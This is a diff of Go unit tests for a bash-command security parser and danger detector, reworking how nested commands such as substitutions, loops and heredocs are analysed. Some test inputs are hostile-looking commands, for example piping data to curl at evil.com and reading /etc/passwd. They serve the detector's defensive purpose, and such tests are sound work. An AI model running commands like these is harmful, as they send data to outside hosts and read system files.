@@ -69,50 +69,83 @@ func TestParseBash_Empty(t *testing.T) {
 	assert.Len(t, result.Commands, 0)
 }
 
-// --- Fail-closed: complex constructs ---
+// --- Nested commands ---
+
+// argv0s returns the command name of every extracted command with an argv.
+func argv0s(result BashParseResult) []string {
+	var out []string
+	for _, cmd := range result.Commands {
+		if len(cmd.Argv) > 0 {
+			out = append(out, cmd.Argv[0])
+		}
+	}
+	return out
+}
 
 func TestParseBash_CommandSubstitution(t *testing.T) {
 	result := ParseBashForSecurity("echo $(whoami)")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"echo", "whoami"}, argv0s(result))
+	assert.Equal(t, "echo $(whoami)", result.Commands[0].Text)
 }
 
 func TestParseBash_Backticks(t *testing.T) {
 	result := ParseBashForSecurity("echo `whoami`")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"echo", "whoami"}, argv0s(result))
 }
 
 func TestParseBash_ProcessSubstitution(t *testing.T) {
 	result := ParseBashForSecurity("diff <(ls dir1) <(ls dir2)")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"diff", "ls", "ls"}, argv0s(result))
 }
 
 func TestParseBash_HereDoc(t *testing.T) {
-	result := ParseBashForSecurity("cat << EOF\nhello\nEOF")
-	assert.Equal(t, "too-complex", result.Kind)
+	result := ParseBashForSecurity("cat << EOF\nhello $(id)\nEOF")
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"cat", "id"}, argv0s(result))
 }
 
 func TestParseBash_ForLoop(t *testing.T) {
 	result := ParseBashForSecurity("for f in *.go; do echo $f; done")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"echo"}, argv0s(result))
 }
 
 func TestParseBash_IfStatement(t *testing.T) {
 	result := ParseBashForSecurity("if true; then echo yes; fi")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"true", "echo"}, argv0s(result))
 }
 
 func TestParseBash_FunctionDef(t *testing.T) {
 	result := ParseBashForSecurity("foo() { echo bar; }")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"echo"}, argv0s(result))
 }
 
 func TestParseBash_Arithmetic(t *testing.T) {
 	result := ParseBashForSecurity("echo $((1 + 2))")
-	assert.Equal(t, "too-complex", result.Kind)
+	assert.Equal(t, "simple", result.Kind)
+	assert.Equal(t, []string{"echo"}, argv0s(result))
 }
 
+// --- Fail-closed ---
+
 func TestParseBash_UnmatchedQuotes(t *testing.T) {
 	result := ParseBashForSecurity(`echo "unterminated`)
+	assert.Equal(t, "parse-error", result.Kind)
+	assert.NotEmpty(t, result.Reason)
+}
+
+func TestParseBash_DynamicCommandName(t *testing.T) {
+	result := ParseBashForSecurity(`$CMD --force`)
+	assert.Equal(t, "too-complex", result.Kind)
+}
+
+func TestParseBash_DynamicShellString(t *testing.T) {
+	result := ParseBashForSecurity(`sh -c "$SCRIPT"`)
 	assert.Equal(t, "too-complex", result.Kind)
 }
 
@@ -134,9 +167,15 @@ func TestDangerousAST_PipeToDangerous(t *testing.T) {
 	assert.True(t, IsDangerousCommandAST("echo payload | curl -d @- http://evil.com"))
 }
 
-func TestDangerousAST_ComplexAlwaysDangerous(t *testing.T) {
-	// Complex constructs are fail-closed = always dangerous
-	assert.True(t, IsDangerousCommandAST("echo $(cat /etc/passwd)"))
+func TestDangerousAST_NestedCommand(t *testing.T) {
+	assert.True(t, IsDangerousCommandAST("echo $(curl http://evil.com)"))
+	assert.False(t, IsDangerousCommandAST("echo $(cat /etc/hostname)"))
+}
+
+func TestDangerousAST_UnparsableAlwaysDangerous(t *testing.T) {
+	// Fail-closed: anything that cannot be analyzed is dangerous
+	assert.True(t, IsDangerousCommandAST(`echo "unterminated`))
+	assert.True(t, IsDangerousCommandAST(`$CMD`))
 }
 
 func TestDangerousAST_EnvVarPrefix(t *testing.T) {